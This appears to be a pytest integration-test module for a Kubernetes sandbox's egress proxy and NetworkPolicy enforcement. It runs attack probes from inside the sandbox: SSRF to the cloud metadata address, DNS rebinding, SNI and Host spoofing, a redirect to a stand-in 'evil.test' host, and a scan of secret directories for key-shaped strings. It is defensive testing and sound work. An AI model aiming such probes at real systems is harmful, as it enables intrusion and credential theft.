"""The egress model on a real node (issue 40 items 3 and 4, and its "done when"), with
the chart's sandbox NetworkPolicy really enforced.

A session with an egress policy runs its code with the network allowed (runtime
``network=allow``: no Landlock connect rule, no socket filter): its one way out is meant
to be the egress proxy, and the only thing that keeps it there in a cluster is the
sandbox NetworkPolicy. The tier's bridge CNI enforces no NetworkPolicy, so this module
starts a real enforcer in the tier's namespace — kube-router's network policy controller
(iptables + ipset; scripts/enforcer/, built by scripts/build-enforcer.sh) — against the
tier's apiserver.

For the module the chart's egress proxy is turned on the way a platform team would
(``helm upgrade --reuse-values --set egressProxy.enabled=true``: the CA hook Job, the
proxy, the operator's proxy settings) and rolled back at the end, so the tier's other
tests see the release they installed. The tier has no DNS and no kube-proxy, so the
proxy's Deployment is then given a name table (its test-only ``--hosts``) and the test
CA its upstreams chain to (``--upstream-ca``), and the sandbox's code names the proxy by
its pod address. The "outside" is servers this module starts on two documentation
addresses (198.51.100.10, 203.0.113.10) it adds to the node's bridge: they exist only
inside the tier's namespace, and the proxy does not count them as internal.

The tests:
- enforcement: code of a session with a policy reaches the test's servers with no
  enforcer (the control), none of them once the policy is programmed;
- attacks through the proxy (raw IPs, names resolving into forbidden ranges — the
  metadata address, the node, loopback where the proxy itself listens, an IPv4-mapped
  IPv6 —, another SNI or Host than the allowed name, a redirect, a placeholder sent to
  another host), each refused or neutralised;
- ``pip install`` from the allowed index succeeds, from another it fails;
- code calls an allowed HTTPS API with a secret whose value the proxy injects, while the
  pod's spec, environment and files hold only the placeholder.

After the module the enforcer is stopped and its rules removed (``--cleanup-config``).
"""

from __future__ import annotations

import http.server
import json
import secrets
import socketserver
import ssl
import subprocess
import threading
from collections.abc import Iterator
from functools import partial
from pathlib import Path

import pytest
from kubeenv.client import JSON_PATCH, wait_until
from kubeenv.controlplane import BIN_DIR, spawn, stop_process
from nodeenv.network import NODE_IP, NODE_NAME, SERVICE_IP
from nodeenv.release import NAMESPACE, RELEASE, SESSIONS
from sessions import UserSession
from wheel_index import make_wheel

from sandbox_workspace.egress.ca import InterceptCA

pytestmark = pytest.mark.node

ENFORCER = BIN_DIR / "enforcer"
PROXY_PORT = 3128  # the chart's egressProxy.port
PROXY = f"{RELEASE}-sandbox-workspace-egress-proxy"
# Documentation addresses (RFC 5737) the module adds to the node's bridge: "outside"
# hosts for the proxy (not in its forbidden ranges), existing only in the namespace.
ALLOWED_IP, OTHER_IP = "198.51.100.10", "203.0.113.10"
# api.test's TLS port: the apiserver holds :443 on every address of the namespace.
TLS_PORT = 8443
# The proxy's name table (the tier has no DNS). The last four resolve into ranges the
# proxy must never reach, whatever the policy says: the metadata address, the node,
# loopback (where the proxy itself listens) and the node again as IPv4-mapped IPv6.
HOSTS = {
    "pypi.test": [ALLOWED_IP],
    "api.test": [ALLOWED_IP],
    "evil.test": [OTHER_IP],
    "meta.test": ["169.254.169.254"],
    "rebind.test": [NODE_IP],
    "admin.test": ["127.0.0.1"],
    "six.test": [f"::ffff:{NODE_IP}"],
}
UPSTREAM_CA = "sbw-egress-test-upstream-ca"  # ConfigMap (release namespace) for the proxy
API_SECRET = "sbw-egress-test-api"  # the platform's Kubernetes Secret with the API key
PLACEHOLDER_ENV = "SBW_SECRET_API_KEY"  # operator.models.EgressSecret's default for api-key
EGRESS = {
    "rules": [
        {"host": "pypi.test", "ports": [80, TLS_PORT], "schemes": ["http", "https"]},
        {"host": "api.test", "ports": [TLS_PORT]},
        # Allowed by the policy, refused by the proxy's forbidden ranges all the same.
        {"host": "meta.test", "ports": [80], "schemes": ["http"]},
        {"host": "rebind.test", "ports": [443]},
        {"host": "admin.test", "ports": [PROXY_PORT], "schemes": ["http"]},
        {"host": "six.test", "ports": [80], "schemes": ["http"]},
    ],
    "secrets": [
        {
            "name": "api-key",
            "host": "api.test",
            "secretKeyRef": {"name": API_SECRET, "key": "token"},
        }
    ],
}

# Executed in the sandbox: one probe, printed as JSON. tcp: "open" (connected),
# "refused" or "timeout"; udp: the echoed reply or "timeout"; else "error <errno>".
PROBE = r"""
import json, socket
kind, host, port = %r, %r, %d
family = socket.AF_INET6 if ":" in host else socket.AF_INET
if kind == "tcp":
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(1.5)
    try:
        s.connect((host, port)); out = "open"
    except ConnectionRefusedError:
        out = "refused"
    except OSError as e:
        out = "timeout" if isinstance(e, TimeoutError) else f"error {e.errno}"
else:
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1.5)
    try:
        s.sendto(b"ping", (host, port)); out = s.recvfrom(64)[0].decode()
    except OSError as e:
        out = "timeout" if isinstance(e, TimeoutError) else f"error {e.errno}"
print(json.dumps(out))
"""


class _Echo(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        data, sock = self.request
        sock.sendto(b"pong:" + data, self.client_address)


class _Ok(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        self.request.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok")


class Targets:
    """A TCP server (any port) and a UDP echo on port 53 — DNS to an address that is not
    the cluster's (the tier runs no cluster DNS) — both on the node's address."""

    def __init__(self) -> None:
        socketserver.ThreadingTCPServer.allow_reuse_address = True
        self.tcp = socketserver.ThreadingTCPServer((NODE_IP, 0), _Ok)
        self.udp = socketserver.ThreadingUDPServer((NODE_IP, 53), _Echo)
        self.tcp_port = self.tcp.server_address[1]
        for server in (self.tcp, self.udp):
            threading.Thread(target=server.serve_forever, daemon=True).start()

    def close(self) -> None:
        for server in (self.tcp, self.udp):
            server.shutdown()
            server.server_close()


@pytest.fixture(scope="module")
def targets() -> Iterator[Targets]:
    t = Targets()
    try:
        yield t
    finally:
        t.close()


class _Upstream(http.server.SimpleHTTPRequestHandler):
    """An outside host: a package index (files of ``directory``) that also answers
    ``/whoami`` (the Host and Authorization it received), ``/redirect`` (302 to
    evil.test), and, as api.test, ``/check`` (200 only with the real key) and ``/echo``
    (the Authorization it received). Every request's headers are recorded."""

    protocol_version = "HTTP/1.0"

    def do_GET(self) -> None:
        seen = {
            "path": self.path,
            "host": self.headers.get("Host", ""),
            "authorization": self.headers.get("Authorization", ""),
        }
        self.server.seen.append(seen)  # type: ignore[attr-defined]
        key = self.server.api_key  # type: ignore[attr-defined]
        if self.path == "/whoami":
            return self._answer(200, json.dumps(seen).encode())
        if self.path == "/redirect":
            self.send_response(302)
            self.send_header("Location", "http://evil.test/stolen")
            self.send_header("Content-Length", "0")
            return self.end_headers()
        if self.path == "/check":
            ok = seen["authorization"] == f"Bearer {key}"
            return self._answer(200 if ok else 401, b"authorized" if ok else b"who are you")
        if self.path == "/echo":
            return self._answer(200, seen["authorization"].encode())
        return super().do_GET()

    def _answer(self, status: int, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


class Outside:
    """The outside hosts on the two documentation addresses: pypi.test's index on
    ALLOWED_IP:80 and api.test over TLS (a certificate of the test's own CA) on
    ALLOWED_IP:TLS_PORT; evil.test's index on OTHER_IP:80."""

    def __init__(self, root: Path) -> None:
        self.api_key = "sk-test-" + secrets.token_hex(16)
        self.ca = InterceptCA.generate()
        self.addresses = [ALLOWED_IP, OTHER_IP]
        self.servers: list[http.server.ThreadingHTTPServer] = []
        try:
            self._start(root)
        except BaseException:
            self.close()
            raise

    def _start(self, root: Path) -> None:
        for address in self.addresses:
            ip(["addr", "add", f"{address}/32", "dev", "node0"])
        for name, address, version in (
            ("allowed", ALLOWED_IP, "1.0"),
            ("other", OTHER_IP, "6.6.6"),
        ):
            make_wheel(root / name, "egress-probe", version)
            self.servers.append(self._serve(address, 80, root / name))
        self.allowed, self.other = self.servers
        tls = self.ca.server_context("api.test")
        self.api = self._serve(ALLOWED_IP, TLS_PORT, root / "allowed", tls)
        self.servers.append(self.api)

    def _serve(
        self, address: str, port: int, directory: Path, tls: ssl.SSLContext | None = None
    ) -> http.server.ThreadingHTTPServer:
        server = http.server.ThreadingHTTPServer(
            (address, port), partial(_Upstream, directory=str(directory))
        )
        if tls is not None:
            server.socket = tls.wrap_socket(server.socket, server_side=True)
        server.seen, server.api_key = [], self.api_key  # type: ignore[attr-defined]
        threading.Thread(target=server.serve_forever, daemon=True).start()
        return server

    def close(self) -> None:
        for server in self.servers:
            server.shutdown()
            server.server_close()
        for address in self.addresses:
            ip(["addr", "del", f"{address}/32", "dev", "node0"], check=False)


def ip(args: list[str], check: bool = True) -> None:
    subprocess.run(["ip", *args], check=check, capture_output=True, timeout=10)


@pytest.fixture(scope="module")
def outside(tmp_path_factory) -> Iterator[Outside]:
    o = Outside(tmp_path_factory.mktemp("outside"))
    try:
        yield o
    finally:
        o.close()


@pytest.fixture(scope="module")
def egress_proxy(release, kube, outside) -> Iterator[str]:
    """The chart's egress proxy turned on by the platform's own upgrade for this module
    and rolled back after it (``finally``: the tier's later tests see the release they
    installed). Then the tier's stand-ins for DNS and a public CA: the name table and
    the test's CA as the proxy's upstream CA. Yields the proxy pod's address (no
    kube-proxy here: the Service's address leads nowhere)."""
    kube.create(
        f"/api/v1/namespaces/{NAMESPACE}/configmaps",
        {"metadata": {"name": UPSTREAM_CA}, "data": {"ca.crt": outside.ca.cert_pem.decode()}},
    )
    try:
        up = release.shell(
            "helm upgrade sw charts/sandbox-workspace -n sandbox-workspace --reuse-values "
            "--set egressProxy.enabled=true --wait --timeout 180s",
            timeout=240,
        )
        assert up.returncode == 0, up.stdout + up.stderr + diagnose(release)
        reconnect(release, kube)
        old = {p["metadata"]["uid"] for p in proxy_pods(kube)}
        deployment = f"/apis/apps/v1/namespaces/{NAMESPACE}/deployments/{PROXY}"
        mount = "/etc/sbw-test-upstream"
        kube.patch(
            deployment,
            [
                *(
                    {"op": "add", "path": "/spec/template/spec/containers/0/args/-", "value": a}
                    for a in ("--hosts", json.dumps(HOSTS), "--upstream-ca", f"{mount}/ca.crt")
                ),
                {
                    "op": "add",
                    "path": "/spec/template/spec/volumes/-",
                    "value": {"name": "upstream-ca", "configMap": {"name": UPSTREAM_CA}},
                },
                {
                    "op": "add",
                    "path": "/spec/template/spec/containers/0/volumeMounts/-",
                    "value": {"name": "upstream-ca", "mountPath": mount, "readOnly": True},
                },
            ],
            patch_type=JSON_PATCH,
        )

        def new_proxy_ip() -> str | None:
            pods = proxy_pods(kube)
            ready = [
                p
                for p in pods
                if p["metadata"]["uid"] not in old
                and any(c.get("ready") for c in p["status"].get("containerStatuses") or [])
            ]
            alone = len(pods) == 1  # the old pod gone: one address the proxy answers on
            return ready[0]["status"].get("podIP") if ready and alone else None

        yield wait_until(new_proxy_ip, timeout=120, interval=0.5, message="the patched proxy")
    finally:
        back = release.shell(
            "helm rollback sw 1 -n sandbox-workspace --wait --timeout 180s", timeout=240
        )
        kube.delete(f"/api/v1/namespaces/{NAMESPACE}/configmaps/{UPSTREAM_CA}")
        assert back.returncode == 0, back.stdout + back.stderr + diagnose(release)
        reconnect(release, kube)


def proxy_pods(kube) -> list[dict]:
    return kube.list(
        f"/api/v1/namespaces/{NAMESPACE}/pods",
        labelSelector="app.kubernetes.io/component=egress-proxy",
    )


def diagnose(release) -> str:
    """What a failed helm upgrade or rollback left, for the failure message."""
    out = release.shell(
        "kubectl -n sandbox-workspace get pods,jobs -o wide; "
        "kubectl -n sandbox-workspace get events --sort-by=.lastTimestamp | tail -25; "
        "for p in $(kubectl -n sandbox-workspace get pods -o name | grep egress); do "
        "kubectl -n sandbox-workspace logs --tail 20 $p --all-containers; done",
        timeout=60,
    )
    return "\n--- diagnosis ---\n" + out.stdout[-6000:] + out.stderr[-2000:]


def reconnect(release, kube) -> None:
    """An upgrade may roll the API pod (a new address): wait until one API pod is left,
    then point the shared release handle at it (the tier's later tests use it)."""

    def one_api_pod() -> bool:
        pods = kube.list(
            f"/api/v1/namespaces/{NAMESPACE}/pods",
            labelSelector="app.kubernetes.io/component=api",
        )
        return len(pods) == 1 and not pods[0]["metadata"].get("deletionTimestamp")

    wait_until(one_api_pod, timeout=120, interval=0.5, message="one API pod after helm")
    release.connect(kube)


class Enforcer:
    """kube-router's network policy controller for the tier's node (scripts/enforcer/),
    started on demand, its rules removed at the end."""

    def __init__(self, kubeconfig: Path, workdir: Path) -> None:
        self.kubeconfig, self.workdir = kubeconfig, workdir
        self.proc: subprocess.Popen[bytes] | None = None

    def start(self) -> None:
        if self.proc is not None:
            return  # one enforcer for the module: the first test that needs it starts it
        self.proc = spawn(
            [
                str(ENFORCER),
                f"--kubeconfig={self.kubeconfig}",
                f"--hostname-override={NODE_NAME}",
                "--iptables-sync-period=5s",
                "-v=1",
            ],
            self.workdir / "enforcer.log",
        )

    def stop(self) -> None:
        if self.proc is not None:
            stop_process(self.proc)
        # Its chains and sets outlive it; the rest of the tier runs without an enforcer.
        subprocess.run(
            [str(ENFORCER), "--cleanup-config"], capture_output=True, timeout=60, check=False
        )


@pytest.fixture(scope="module")
def enforcer(node_cluster, egress_proxy, tmp_path_factory) -> Iterator[Enforcer]:
    """After the proxy (set up first, so the upgrade and the rollback run with no enforcer
    and the enforcer's rules are gone before the rollback)."""
    if not ENFORCER.exists():
        pytest.fail(f"no {ENFORCER}: scripts/build-enforcer.sh builds it")
    e = Enforcer(node_cluster.kubeconfig, tmp_path_factory.mktemp("enforcer"))
    try:
        yield e
    finally:
        e.stop()


def probe(session, kind: str, host: str, port: int) -> str:
    out = session.execute(PROBE % (kind, host, port))
    assert out["exit_code"] == 0, out
    return json.loads(out["stdout"])


def new_pod(session, kube, change) -> dict:
    """Change the session's policy (``change()``), then wait for a pod made for it: the
    operator rolls a ready pod only later, so the test deletes it."""
    assert session.execute("print(1)")["exit_code"] == 0  # the session's first pod runs
    old = session.pod()
    assert old is not None
    change()
    kube.delete(f"/api/v1/namespaces/{session.namespace}/pods/{old['metadata']['name']}")

    def new_pod_running() -> dict | None:
        pod = session.pod()
        fresh = pod and pod["metadata"]["uid"] != old["metadata"]["uid"]
        return pod if fresh and pod["status"].get("phase") == "Running" else None

    pod = wait_until(new_pod_running, timeout=90, interval=0.5, message="the session's new pod")
    env = {e["name"]: e.get("value") for e in pod["spec"]["containers"][0]["env"]}
    assert env["SANDBOX_RUNTIME_NETWORK"] == "allow", env
    return pod


def test_sandbox_with_egress_policy_reaches_nothing_once_the_policy_is_enforced(
    session, kube, enforcer, targets
):
    def put() -> None:
        r = session.api.put(f"{session.url}/egress", json={"rules": [{"host": "pypi.test"}]})
        assert r.status_code == 200, r.text

    new_pod(session, kube, put)
    # No enforcer: executed code reaches the test's servers over the bridge — what any
    # cluster whose CNI ignores NetworkPolicy gives a session with an egress policy.
    assert probe(session, "tcp", NODE_IP, targets.tcp_port) == "open"
    assert probe(session, "udp", NODE_IP, 53) == "pong:ping"

    enforcer.start()
    wait_until(
        lambda: probe(session, "tcp", NODE_IP, targets.tcp_port) != "open",
        timeout=60,  # the controller's first sync: a few seconds on a loaded machine
        interval=0.5,
        message="the enforcer to enforce the chart's NetworkPolicy",
    )
    # A raw IP outside the policy (the test's server), UDP and DNS to an address that is
    # not the cluster's (the tier has no cluster DNS), the apiserver's Service address and
    # the API pod: none is reached.
    assert probe(session, "tcp", NODE_IP, targets.tcp_port) in ("timeout", "refused")
    assert probe(session, "udp", NODE_IP, 53) == "timeout"
    assert probe(session, "tcp", SERVICE_IP, 443) != "open"
    assert probe(session, "tcp", session.api.base_url.host, 8000) != "open"
    # IPv6: the tier's CNI gives pods IPv4 only, so there is no IPv6 way out to test; a
    # connection fails before any policy is involved.
    assert probe(session, "tcp", "fd00::1", 80).startswith("error")
    # The policy's one ingress still works: the API reaches the runtime through it.
    assert session.execute("print(2)")["stdout"].strip() == "2"
    assert enforcer.proc is not None and enforcer.proc.poll() is None, "the enforcer died"


@pytest.fixture(scope="module")
def egress_session(release, kube, enforcer, egress_proxy, outside) -> Iterator[UserSession]:
    """One session for the proxy tests: EGRESS as its spec.egress (set by the platform on
    the SandboxSession: secrets are not the API's), the API key in a labelled Secret of
    its namespace, its pod made for that policy, and the proxy one it reaches."""
    kube.create(
        f"/api/v1/namespaces/{SESSIONS}/secrets",
        {
            "metadata": {
                "name": API_SECRET,
                "labels": {"sandboxworkspace.io/egress-secret": "true"},
                "annotations": {"sandboxworkspace.io/egress-hosts": "api.test"},
            },
            "stringData": {"token": outside.api_key},
        },
    )
    enforcer.start()
    s = UserSession(release, kube, f"eg-{secrets.token_hex(4)}")
    try:
        r = s.api.post("/sessions", json={})
        assert r.status_code in (200, 201, 202), r.text
        s.pod_spec = new_pod(s, kube, lambda: kube.patch(s.sbs_path, {"spec": {"egress": EGRESS}}))
        wait_until(
            lambda: probe(s, "tcp", egress_proxy, PROXY_PORT) == "open",
            timeout=60,  # the enforcer's next sync adds the new pod to its sets
            interval=0.5,
            message="the sandbox to reach the egress proxy",
        )
        # The proxy reads sessions and pods every egressProxy.pollSeconds (2 s): until it
        # has seen the new pod it answers "no egress policy".
        known = KNOWN % egress_proxy
        wait_until(
            lambda: "no egress policy" not in s.execute(known)["stdout"],
            timeout=30,
            interval=1,
            message="the egress proxy to know the session's pod",
        )
        yield s
    finally:
        s.delete()
        kube.delete(f"/api/v1/namespaces/{SESSIONS}/secrets/{API_SECRET}")


def run_json(session, code: str) -> dict:
    out = session.execute(code, timeout=180)
    assert out["exit_code"] == 0, out
    return json.loads(out["stdout"].strip().splitlines()[-1])


# Executed in the sandbox: the proxy's answer to a CONNECT the policy allows.
KNOWN = r"""
import socket
s = socket.create_connection((%r, 3128), timeout=10)
s.sendall(b"CONNECT pypi.test:8443 HTTP/1.1\r\nHost: pypi.test:8443\r\n\r\n")
print(s.recv(4096).decode("latin-1").split("\r\n", 1)[0])
"""


# Executed in the sandbox: each attack through the proxy at its pod address, by hand
# (raw sockets: no client library follows redirects or rewrites Host on its own).
ATTACKS = r"""
import json, os, socket, ssl
PROXY = (%r, 3128)

def conversation(request):
    s = socket.create_connection(PROXY, timeout=10)
    s.sendall(request)
    data = b""
    try:
        while len(data) < 65536:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
    except OSError:
        pass
    return data.decode("latin-1")

def connect(target):
    request = f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n"
    return conversation(request.encode()).split("\r\n", 1)[0]

def get(url, headers=""):
    host = url.split("/")[2]
    request = f"GET {url} HTTP/1.1\r\nHost: {host}\r\n{headers}Connection: close\r\n\r\n"
    answer = conversation(request.encode())
    return {"status": answer.split("\r\n", 1)[0], "body": answer.split("\r\n\r\n", 1)[-1][:400]}

def tls_with_sni(target, sni):
    s = socket.create_connection(PROXY, timeout=10)
    s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    head = s.recv(4096).decode("latin-1").split("\r\n", 1)[0]
    if " 200" not in head:
        return head
    ctx = ssl.create_default_context()
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    try:
        ctx.wrap_socket(s, server_hostname=sni)
        return "handshake completed"
    except (ssl.SSLError, OSError) as e:
        return f"{type(e).__name__}: {e}"

placeholder = os.environ[%r]
print(json.dumps({
    "raw_ip": connect("198.51.100.10:443"),
    "raw_ip6": connect("[::1]:443"),
    "metadata": get("http://meta.test/latest/meta-data/")["status"],
    "rebind": connect("rebind.test:443"),
    "mapped6": get("http://six.test/")["status"],
    "proxy_itself": get("http://admin.test:3128/")["status"],
    "not_allowed": connect("evil.test:443"),
    "tls_sni": tls_with_sni("pypi.test:8443", "evil.test"),
    "host": get("http://pypi.test/whoami", "Host: evil.test\r\n"),
    "redirect": get("http://pypi.test/redirect"),
    "placeholder_elsewhere": get(
        "http://pypi.test/whoami", f"Authorization: Bearer {placeholder}\r\n"
    ),
}))
"""


def test_the_proxy_is_the_only_way_out_and_refuses_what_the_policy_does_not_allow(
    egress_session, egress_proxy, outside
):
    s = egress_session
    # Past the proxy, nothing: the outside hosts themselves and the proxy pod's other
    # ports (it has no admin or metrics listener; the policy allows its one port).
    assert probe(s, "tcp", ALLOWED_IP, 80) != "open"
    assert probe(s, "tcp", egress_proxy, 8080) != "open"
    result = run_json(s, ATTACKS % (egress_proxy, PLACEHOLDER_ENV))
    refused = "HTTP/1.1 403 Egress refused"
    assert result["raw_ip"].startswith(refused) and "raw IP" in result["raw_ip"], result
    assert result["raw_ip6"].startswith(refused) and "raw IP" in result["raw_ip6"], result
    # Names the policy allows that resolve into ranges never reached (DNS rebinding).
    for key in ("metadata", "rebind", "mapped6", "proxy_itself"):
        assert result[key].startswith(refused) and "forbidden range" in result[key], (key, result)
    assert (
        result["not_allowed"].startswith(refused) and "not in this session" in result["not_allowed"]
    ), result
    # An allowed name in CONNECT, another in the TLS ClientHello: the tunnel is closed.
    assert "UNRECOGNIZED_NAME" in result["tls_sni"].upper(), result
    # Another Host header: the proxy sends the URL's host; the upstream saw pypi.test.
    assert json.loads(result["host"]["body"])["host"] == "pypi.test", result
    # A redirect to a forbidden host is relayed, never followed.
    assert result["redirect"]["status"].startswith("HTTP/1.1 302"), result
    assert not outside.other.seen, outside.other.seen
    # The placeholder sent to another host than its binding's goes as written.
    sent = json.loads(result["placeholder_elsewhere"]["body"])["authorization"]
    assert sent.startswith("Bearer sbw-secret-api-key-"), result
    assert all(outside.api_key not in json.dumps(r) for r in outside.allowed.seen)


# Executed in the sandbox: pip from its bundled wheel where the image's venv has none
# (the product image removes pip from its venv; Debian's python3-venv keeps a wheel).
PIP = (
    'PIP="python -m pip"; python -c "import pip" 2>/dev/null || '
    'PIP="python $(ls /usr/share/python-wheels/pip-*.whl | head -n1)/pip"; '
    "$PIP install --no-cache-dir --disable-pip-version-check --retries 0 --timeout 20 -vv "
    "--proxy http://{proxy}:3128 --target /tmp/{target} --trusted-host {host} "
    "--index-url http://{host}/simple/ egress-probe 2>&1 | "
    "grep -E 'Successfully installed|Egress refused|ERROR' | cut -c1-300"
)


def test_pip_installs_from_the_allowed_index_and_not_from_another(egress_session, egress_proxy):
    # Two real pip runs (a few seconds each, pip's own start-up mostly): the issue's
    # "done when" is pip itself, so no cheaper client stands in for it.
    s = egress_session
    ok = s.execute(PIP.format(proxy=egress_proxy, target="t1", host="pypi.test"), language="bash")
    assert "Successfully installed egress-probe-1.0" in ok["stdout"], ok
    other = s.execute(
        PIP.format(proxy=egress_proxy, target="t2", host="evil.test"), language="bash"
    )
    assert "Successfully installed" not in other["stdout"], other
    assert "Egress refused: evil.test is not in this session's egress policy" in other["stdout"], (
        other
    )
    origin = s.execute(
        "import sys\nsys.path.insert(0, '/tmp/t1')\nimport egress_probe\nprint(egress_probe.ORIGIN)"
    )
    assert origin["stdout"].strip().endswith("allowed"), origin


# Executed in the sandbox: the allowed API called with the placeholder (urllib through
# the proxy; the CA bundle the operator points SSL_CERT_FILE at), then what the sandbox
# holds: its environment, and every string shaped like the key (``sk-test-`` + 32 hex:
# the code does not know the value) in the files it could read one from.
SECRET_CALL = r"""
import json, os, re, urllib.request, urllib.error
opener = urllib.request.build_opener(urllib.request.ProxyHandler({"https": "http://%s:3128"}))
def call(path):
    request = urllib.request.Request(
        "https://api.test:8443" + path, headers={"Authorization": "Bearer " + os.environ[%r]}
    )
    try:
        with opener.open(request, timeout=20) as r:
            return [r.status, r.read().decode()]
    except urllib.error.HTTPError as e:
        return [e.code, e.read().decode()]
shaped, read = [], 0
for root in ("/etc/sandbox-workspace", "/var/run/secrets", "/run/secrets", "/tmp", "/workspace"):
    for directory, _, names in os.walk(root):
        for name in names:
            path = os.path.join(directory, name)
            try:
                with open(path, "rb") as f:
                    text = f.read(1 << 20)
            except OSError:
                continue
            read += 1
            shaped += [(path, m.decode()) for m in re.findall(rb"sk-test-[0-9a-f]{32}", text)]
print(json.dumps({"check": call("/check"), "echo": call("/echo"), "env": dict(os.environ),
                  "files_read": read, "key_shaped": shaped}))
"""


def test_code_calls_the_allowed_api_with_a_secret_it_cannot_read(
    egress_session, egress_proxy, outside
):
    s = egress_session
    key = outside.api_key
    result = run_json(s, SECRET_CALL % (egress_proxy, PLACEHOLDER_ENV))
    # The control: api.test accepts the real key only, and the placeholder is not it.
    placeholder = result["env"][PLACEHOLDER_ENV]
    assert placeholder.startswith("sbw-secret-api-key-") and placeholder != key
    assert result["check"] == [200, "authorized"], result["check"]
    # An echoing host's answer comes back with the value masked (what the model
    # guarantees for the bytes as the host sent them; docs/security.md).
    assert result["echo"] == [200, "Bearer " + "*" * len(key)], result["echo"]
    # The value is nowhere the sandbox can read: environment, mounted files, /tmp,
    # /workspace — nor in the pod's spec.
    assert key not in json.dumps(result["env"])
    assert result["files_read"] > 0 and result["key_shaped"] == [], result
    assert key not in json.dumps(s.pod_spec)
    assert any(e.get("value") == placeholder for e in s.pod_spec["spec"]["containers"][0]["env"])
